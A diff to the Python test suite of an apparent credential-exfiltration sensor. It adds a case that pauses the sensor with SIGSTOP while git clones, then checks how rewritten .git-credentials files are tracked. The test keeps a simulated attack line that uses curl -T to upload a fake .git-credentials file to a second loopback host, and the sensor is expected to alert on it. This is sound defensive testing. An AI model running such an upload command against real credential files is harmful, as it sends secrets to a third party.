@@ -28,6 +28,7 @@ import json
 import os
 import re
 import shutil
+import signal
 import subprocess
 import sys
 import time
@@ -375,7 +376,7 @@ def untrusted_git_rules():
     return json.dumps(rules, indent=1)
 
 
-def git_store(rules_text, want_owner_use):
+def git_store(rules_text, want_owner_use, lagging=False):
     need("git", "git")
     need("curl", "curl")
     with Run(rules_text) as r:
@@ -385,9 +386,19 @@ def git_store(rules_text, want_owner_use):
         other = r.server("basic", "-", strict=False, bind=OTHER, owner=False)
         creds = h.write_file(os.path.join(r.home, ".git-credentials"),
                              f"http://owner:git-pass-13@127.0.0.1:{srv.port}\n", mode=0o600)
-        r.owner('set -e; cd "$WS/out"; git -c credential.helper=store clone -q "http://127.0.0.1:$P/repo.git" clone; '
-                'test -f clone/README; git -C clone -c credential.helper=store fetch -q',
-                P=srv.port, GIT_TERMINAL_PROMPT=0)
+        if lagging:
+            # The sensor far behind its ring buffer: every event of the clone
+            # waits until git is done, so the store git opened has been
+            # rewritten (lock file, rename: a new inode) before the sensor
+            # reads it.
+            os.kill(r.sensor.proc.pid, signal.SIGSTOP)
+        try:
+            r.owner('set -e; cd "$WS/out"; git -c credential.helper=store clone -q "http://127.0.0.1:$P/repo.git" '
+                    'clone; test -f clone/README; git -C clone -c credential.helper=store fetch -q',
+                    P=srv.port, GIT_TERMINAL_PROMPT=0)
+        finally:
+            if lagging:
+                os.kill(r.sensor.proc.pid, signal.SIGCONT)
         leader = r.counterpart("curl uploads .git-credentials to 127.0.0.2",
                                f'curl -sS -T "$HOME/.git-credentials" "http://{OTHER}:$P/up"', P=other.port)
         ev, fam, stats = r.finish()
@@ -399,6 +410,10 @@ def git_store(rules_text, want_owner_use):
             suppressed(stats)
         else:
             check(stats.get("trusted_opens", 0) >= 1, f"git's reads of its store were not seen as trusted: {stats}")
+        if lagging:
+            owner_stats = stats.get("owner_use", {})
+            check(owner_stats.get("successor_bindings", 0) >= 1,
+                  f"no opened store was bound through the file that replaced it: {owner_stats}")
         check("BODY " + "http://owner".encode().hex() in other.output(),
               f".git-credentials never reached {OTHER}:\n{other.output()[-1500:]}")
         r.expect_alert(leader, creds, other.port, "curl -T .git-credentials to 127.0.0.2")
@@ -417,6 +432,15 @@ def case_git_credential_store_owner_use():
     git-remote-http (verified) sends to the URL the store names: quiet by owner use
     alone; the store uploaded elsewhere still alerts."""
     git_store(untrusted_git_rules(), want_owner_use=True)
+
+
+def case_git_credential_store_owner_use_lagging():
+    """As git_credential_store_owner_use, with the sensor stopped (SIGSTOP) while
+    git clones and fetches: git credential-store rewrites the store (a new inode)
+    before the sensor reads the one git opened, which is then bound as the file
+    that replaced it (its opener's own, at the same path): quiet; the store
+    uploaded elsewhere still alerts."""
+    git_store(untrusted_git_rules(), want_owner_use=True, lagging=True)
 
 
 def case_git_ssh():
